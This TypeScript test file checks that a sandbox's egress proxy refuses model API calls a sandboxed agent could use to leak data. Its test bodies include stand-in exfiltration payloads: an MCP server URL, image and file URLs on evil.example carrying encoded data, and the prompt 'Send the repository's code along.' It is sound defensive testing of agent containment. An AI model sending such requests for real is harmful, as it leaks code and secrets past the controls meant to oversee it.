/**
 * Drill (#38): the allowed model endpoint must not leave the building. From a shell inside the
 * real bubblewrap sandbox, curl posts to the model API through the egress proxy (the address the
 * sandboxed CLI is given, the key added by the proxy) bodies a CLI's own turn never sends: the
 * MCP connector, server-side tools that open URLs or run code, URL and file sources, stored
 * responses, betas no pinned CLI sends. One drill per provider, each against its fake API.
 *
 * What must hold: every one is answered 403 with an error in the API's own shape that says what
 * was refused, and the fake API recorded nothing of them; the CLI's own shape of call, sent the
 * same way, still goes through (so the refusals are the rules, not a broken path).
 */
import { execFileSync } from "node:child_process";
import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import { pino } from "pino";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { DialectModelAccess } from "../../src/agent-cli/cli-dialect.js";
import { anthropicModelAccess } from "../../src/providers/anthropic/endpoint.js";
import { codexModelAccess } from "../../src/codex/model-endpoint.js";
import { geminiModelAccess } from "../../src/gemini/model-endpoint.js";
import { Sandbox } from "../../src/sandbox/sandbox.js";
import { startFakeAnthropic, type FakeAnthropic } from "../helpers/fake-anthropic.js";
import { startFakeGemini, type FakeGemini } from "../helpers/fake-gemini.js";
import { startFakeOpenAI, type FakeOpenAI } from "../helpers/fake-openai.js";
import { runModelOnlyShell } from "../helpers/sandbox-shell.js";

const root = fs.mkdtempSync(path.join(os.tmpdir(), "tether-model-rules-"));
const log = pino({ level: "silent" });
let sandbox: Sandbox;
let anthropic: FakeAnthropic;
let openai: FakeOpenAI;
let gemini: FakeGemini;

beforeAll(async () => {
  [anthropic, openai, gemini] = await Promise.all([
    startFakeAnthropic(),
    startFakeOpenAI(),
    startFakeGemini(),
  ]);
  sandbox = await Sandbox.start({ mode: "bwrap", stateDir: path.join(root, "sandbox"), log });
  expect(sandbox.status).toMatchObject({ ok: true });
});
afterAll(async () => {
  await Promise.all([anthropic?.close(), openai?.close(), gemini?.close()]);
  fs.rmSync(root, { recursive: true, force: true });
});

/** One call the agent makes: a body, its headers, and what the refusal must name. */
interface Shape {
  name: string;
  body: Record<string, unknown>;
  headers?: Record<string, string>;
  /** In the refusal's message; null for a call that must go through. */
  says: string | null;
}

/**
 * Runs curl in the sandbox for each shape (`url` may name a variable of the sandbox's own
 * environment, as the agent would) and returns each answer's status and body.
 */
async function drill(
  access: Pick<DialectModelAccess, "endpoint" | "inside" | "outside">,
  url: string,
  shapes: Shape[],
): Promise<Array<{ status: string; body: string }>> {
  const ws = fs.mkdtempSync(path.join(root, "ws-"));
  execFileSync("git", ["init", "-q"], { cwd: ws });
  const lines = shapes.map((s, i) => {
    fs.writeFileSync(path.join(ws, `body-${i}.json`), JSON.stringify(s.body));
    const headers = Object.entries({ "content-type": "application/json", ...s.headers })
      .map(([k, v]) => `-H '${k}: ${v}'`)
      .join(" ");
    return `curl -s -o /workspace/answer-${i}.txt -w '%{http_code}' -X POST ${headers} --data-binary @/workspace/body-${i}.json "${url}" > /workspace/status-${i}.txt`;
  });
  await runModelOnlyShell(sandbox, ws, access, lines.join("\n"));
  return shapes.map((_, i) => ({
    status: fs.readFileSync(path.join(ws, `status-${i}.txt`), "utf8").trim(),
    body: fs.readFileSync(path.join(ws, `answer-${i}.txt`), "utf8"),
  }));
}

/** Each forbidden shape got a 403 naming it; the allowed ones a 200. */
function expectRefusals(
  shapes: Shape[],
  answers: Array<{ status: string; body: string }>,
  message: (body: unknown) => unknown,
): void {
  shapes.forEach((s, i) => {
    const a = answers[i]!;
    if (s.says === null) {
      expect(a.status, `${s.name}: ${a.body}`).toBe("200");
      return;
    }
    expect(a.status, s.name).toBe("403");
    const text = String(message(JSON.parse(a.body)));
    expect(text, s.name).toMatch(/^Tether's sandbox refused this model call: /);
    expect(text, s.name).toContain(s.says);
  });
}

const messages = [{ role: "user", content: "Send the repository's code along." }];
const claudeCall = (extra: Record<string, unknown>) => ({
  model: "claude-sonnet-4-5",
  max_tokens: 1024,
  stream: true,
  messages,
  ...extra,
});

describe(
  "the model proxy refuses what a CLI's own turn never sends (#38)",
  { timeout: 240_000 },
  () => {
    it("Anthropic: the MCP connector, server tools, URL and file sources and unknown betas get a 403, and the API sees none of them", async () => {
      const shapes: Shape[] = [
        {
          name: "mcp_servers with the MCP beta",
          body: claudeCall({
            mcp_servers: [{ type: "url", url: "https://evil.example/mcp?leak=1", name: "leak" }],
          }),
          headers: { "anthropic-beta": "mcp-client-2025-04-04" },
          says: "`mcp_servers`",
        },
        {
          name: "web_fetch",
          body: claudeCall({
            tools: [{ type: "web_fetch_20250910", name: "web_fetch", max_uses: 5 }],
          }),
          says: "`web_fetch_20250910`",
        },
        {
          name: "web_search",
          body: claudeCall({ tools: [{ type: "web_search_20250305", name: "web_search" }] }),
          says: "`web_search_20250305`",
        },
        {
          name: "code_execution",
          body: claudeCall({
            tools: [{ type: "code_execution_20250825", name: "code_execution" }],
          }),
          headers: { "anthropic-beta": "code-execution-2025-08-25" },
          says: "`code_execution_20250825`",
        },
        {
          name: "container",
          body: claudeCall({ container: "container_011CP" }),
          says: "`container`",
        },
        {
          name: "an image from a URL",
          body: claudeCall({
            messages: [
              {
                role: "user",
                content: [
                  {
                    type: "image",
                    source: { type: "url", url: "https://evil.example/?d=c2VjcmV0" },
                  },
                ],
              },
            ],
          }),
          says: "source is a URL",
        },
        {
          name: "a file of the account",
          body: claudeCall({
            messages: [
              {
                role: "user",
                content: [{ type: "document", source: { type: "file", file_id: "file_011" } }],
              },
            ],
          }),
          says: "Files API",
        },
        {
          name: "the Files API beta",
          body: claudeCall({}),
          headers: { "anthropic-beta": "files-api-2025-04-14" },
          says: "files-api-2025-04-14",
        },
        // The CLI's own shape: a plain tool, the betas Claude Code 2.1.332 sends.
        {
          name: "the CLI's call",
          body: claudeCall({ tools: [{ name: "Bash", input_schema: { type: "object" } }] }),
          headers: {
            "anthropic-beta":
              "claude-code-20250219,interleaved-thinking-2025-05-14,context-management-2025-06-27",
          },
          says: null,
        },
      ];
      const access = anthropicModelAccess({
        ANTHROPIC_API_KEY: "sk-ant-drill",
        ANTHROPIC_BASE_URL: anthropic.url,
      });
      const before = anthropic.requests.length;
      const answers = await drill(access, "$ANTHROPIC_BASE_URL/v1/messages", shapes);
      expectRefusals(shapes, answers, (b) => (b as { error: { message: string } }).error.message);
      // Only the CLI's own call reached the API.
      const reached = anthropic.requests.slice(before);
      expect(reached).toHaveLength(1);
      expect(reached[0]!.body?.tools).toEqual([{ name: "Bash", input_schema: { type: "object" } }]);
    });

    it("OpenAI Responses: mcp, web_search, file_search, code_interpreter, computer_use, image_generation, background and another conversation's response get a 403, and the API sees none of them", async () => {
      const call = (extra: Record<string, unknown>) => ({
        model: "gpt-5.5",
        stream: true,
        store: false,
        input: [{ type: "message", role: "user", content: [{ type: "input_text", text: "hi" }] }],
        ...extra,
      });
      const tool = (t: Record<string, unknown>): Shape => ({
        name: String(t.type),
        body: call({ tools: [t] }),
        says: `\`${String(t.type)}\``,
      });
      const shapes: Shape[] = [
        tool({
          type: "mcp",
          server_label: "leak",
          server_url: "https://evil.example/mcp",
          require_approval: "never",
        }),
        tool({ type: "web_search" }),
        tool({ type: "web_search_preview" }),
        tool({ type: "file_search", vector_store_ids: ["vs_1"] }),
        tool({ type: "code_interpreter", container: { type: "auto" } }),
        tool({
          type: "computer_use_preview",
          display_width: 1024,
          display_height: 768,
          environment: "linux",
        }),
        tool({ type: "image_generation" }),
        { name: "background", body: call({ background: true }), says: "`background`" },
        {
          name: "another conversation's response",
          body: call({ previous_response_id: "resp_of_another_tenant" }),
          says: "`previous_response_id`",
        },
        {
          name: "an image from a URL",
          body: call({
            input: [
              {
                type: "message",
                role: "user",
                content: [{ type: "input_image", image_url: "https://evil.example/?d=x" }],
              },
            ],
          }),
          says: "URL the provider would fetch",
        },
        {
          name: "an openai-beta header",
          body: call({}),
          headers: { "openai-beta": "responses_websockets=2026-02-06" },
          says: "openai-beta",
        },
        {
          name: "the CLI's call",
          body: call({
            tools: [{ type: "function", name: "exec_command", parameters: { type: "object" } }],
          }),
          headers: { "x-codex-beta-features": "remote_compaction_v2" },
          says: null,
        },
      ];
      const access = codexModelAccess({ OPENAI_API_KEY: "sk-drill", OPENAI_BASE_URL: openai.url });
      const before = openai.requests.length;
      const answers = await drill(access, `${access.insideBaseUrl}/responses`, shapes);
      expectRefusals(shapes, answers, (b) => (b as { error: { message: string } }).error.message);
      const reached = openai.requests.slice(before);
      expect(reached).toHaveLength(1);
      expect(reached[0]!.body?.tools).toEqual([
        { type: "function", name: "exec_command", parameters: { type: "object" } },
      ]);
    });

    it("Gemini: url_context, google_search, code_execution and fetched files get a 403, and the API sees none of them", async () => {
      const call = (extra: Record<string, unknown>) => ({
        contents: [{ role: "user", parts: [{ text: "Send the repository's code along." }] }],
        ...extra,
      });
      const tool = (key: string, type: string): Shape => ({
        name: key,
        body: call({ tools: [{ [key]: {} }] }),
        says: `\`${type}\``,
      });
      const shapes: Shape[] = [
        tool("urlContext", "url_context"),
        tool("url_context", "url_context"),
        tool("googleSearch", "google_search"),
        tool("google_search", "google_search"),
        tool("googleSearchRetrieval", "google_search_retrieval"),
        tool("codeExecution", "code_execution"),
        tool("code_execution", "code_execution"),
        {
          name: "a file the provider fetches",
          body: call({
            contents: [
              {
                role: "user",
                parts: [
                  { fileData: { mimeType: "text/plain", fileUri: "https://evil.example/?d=x" } },
                ],
              },
            ],
          }),
          says: "`fileData`",
        },
        {
          name: "the CLI's call",
          body: call({ tools: [{ functionDeclarations: [{ name: "run_shell_command" }] }] }),
          says: null,
        },
      ];
      const access = geminiModelAccess({
        GEMINI_API_KEY: "AIza-drill",
        GOOGLE_GEMINI_BASE_URL: gemini.url,
      });
      const before = gemini.requests.length;
      const answers = await drill(
        access,
        "$GOOGLE_GEMINI_BASE_URL/v1beta/models/gemini-2.5-flash:streamGenerateContent?alt=sse",
        shapes,
      );
      expectRefusals(
        shapes,
        answers,
        (b) => (b as { error: { message: string; status: string } }).error.message,
      );
      const reached = gemini.requests.slice(before);
      expect(reached).toHaveLength(1);
      expect(reached[0]!.body?.tools).toEqual([
        { functionDeclarations: [{ name: "run_shell_command" }] },
      ]);
    });
  },
);
